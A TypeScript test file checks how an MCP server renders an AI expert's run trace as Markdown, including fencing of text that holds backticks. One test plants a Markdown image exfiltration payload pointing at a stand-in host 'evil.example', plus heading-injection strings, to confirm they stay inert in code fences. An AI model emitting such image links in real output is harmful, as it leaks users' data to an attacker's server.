import { describe, expect, it } from "vitest";
import type { StoredRun } from "../../../src/experts/records/run-log";
import { runTraceMarkdown } from "../../../src/mcp/server/run-trace-markdown";

const run: StoredRun = {
  id: "r-1",
  skill: "docs",
  expert: "ask_docs",
  userId: "u-1",
  threadId: "th_1",
  catalogVersion: 3,
  provider: "openai-compatible",
  model: "fake",
  outcome: "ok",
  error: null,
  usage: {
    steps: 2,
    inputTokens: 20,
    outputTokens: 9,
    toolCalls: 1,
    refusedToolCalls: 0,
    downstreamBytesRead: 42,
    bytesReturned: 7,
    elapsedMs: 15,
    budgetExhausted: null,
    retries: 0,
  },
  startedAt: Date.UTC(2026, 10, 25, 10, 0, 0),
  endedAt: Date.UTC(2026, 10, 25, 10, 0, 1),
  traceId: "0af7651916cd43dd8448eb211c80319c",
  caller: null,
  args: '{"query":"budgets"}',
  notes: ["fx__drop: blocked by tool policy"],
  answer: "Budgets bound loops.",
  unavailable: [],
};

describe("a run's trace as Markdown", () => {
  it("lays out the facts, arguments, notes, each step and tool call, and the answer", () => {
    const markdown = runTraceMarkdown(run, [
      {
        index: 0,
        finishReason: "tool-calls",
        inputTokens: 10,
        outputTokens: 4,
        text: "",
        toolCalls: [{ toolCallId: "c1", name: "docs__search", status: "ok", bytes: 42, elapsedMs: 3, args: '{"q":"b"}', result: "hit" }],
        model: { provider: "openai-compatible", model: "fake", latencyMs: 5, retries: 1 },
      },
      { index: 1, finishReason: "stop", inputTokens: 10, outputTokens: 5, text: "Budgets bound loops.", toolCalls: [] },
    ]);
    expect(markdown).toContain("# Run r-1\n\nExpert ` ask_docs ` of skill ` docs `: **ok**.");
    expect(markdown).toContain("- Started: 2026-11-25T10:00:00.000Z");
    expect(markdown).toContain("- Tokens: 20 in, 9 out");
    expect(markdown).toContain('## Arguments\n\n```json\n{"query":"budgets"}\n```');
    expect(markdown).toContain("## Notes\n\n```text\nfx__drop: blocked by tool policy\n```");
    expect(markdown).toContain("## Step 1\n\nFinished: ` tool-calls `; tokens 10 in, 4 out, 5 ms, 1 retries.");
    expect(markdown).toContain("### ` docs__search `: ok\n\n42 bytes, 3 ms.");
    expect(markdown).toContain("## Step 2");
    expect(markdown.trimEnd().endsWith("## Answer\n\n```text\nBudgets bound loops.\n```")).toBe(true);
  });

  it("fences a text holding backticks with a longer fence, so it cannot close the block early", () => {
    const markdown = runTraceMarkdown({ ...run, answer: "see ```code``` and ````more````" }, []);
    expect(markdown).toContain("`````text\nsee ```code``` and ````more````\n`````");
  });

  it("puts a downstream's error, the notes and a model's finish reason in fences or code spans, never bare", () => {
    const image = "![x](https://evil.example/?d=secret)";
    const markdown = runTraceMarkdown({ ...run, error: `failed: ${image}\n# not a heading`, notes: [`tool "a\n## b" ${image}`], answer: null }, [
      {
        index: 0,
        finishReason: `stop\`${image}`,
        inputTokens: 1,
        outputTokens: 1,
        text: "",
        toolCalls: [{ toolCallId: "c1", name: "fx__t", status: "error", bytes: 0, elapsedMs: 1, error: `MCP error -32000: \`\`\`\n${image}` }],
      },
    ]);
    expect(markdown).toContain(`## Error\n\n\`\`\`text\nfailed: ${image}\n# not a heading\n\`\`\``);
    expect(markdown).toContain(`## Notes\n\n\`\`\`text\ntool "a ## b" ${image}\n\`\`\``);
    expect(markdown).toContain(`Finished: \`\` stop\`${image} \`\`;`);
    expect(markdown).toContain(`Error:\n\n\`\`\`\`text\nMCP error -32000: \`\`\`\n${image}\n\`\`\`\``);
  });

  it("a run still running has no end, usage or answer", () => {
    const markdown = runTraceMarkdown({ ...run, outcome: "running", endedAt: null, usage: null, answer: null }, []);
    expect(markdown).toContain("**running**");
    expect(markdown).not.toContain("Ended:");
    expect(markdown).not.toContain("## Answer");
  });
});
